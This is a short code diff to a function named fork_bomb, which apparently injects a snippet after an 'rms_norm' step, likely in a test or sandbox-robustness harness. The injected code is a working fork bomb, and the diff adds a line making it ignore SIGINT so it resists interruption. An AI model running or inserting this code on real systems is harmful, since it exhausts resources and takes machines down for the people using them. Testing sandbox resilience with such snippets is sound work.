@@ -100,7 +100,8 @@ def fork_bomb(work: Work) -> None:
     some(work).after(
         "rms_norm",
         """
-import os
+import os, signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
 while True:
     try: os.fork()
     except OSError: pass
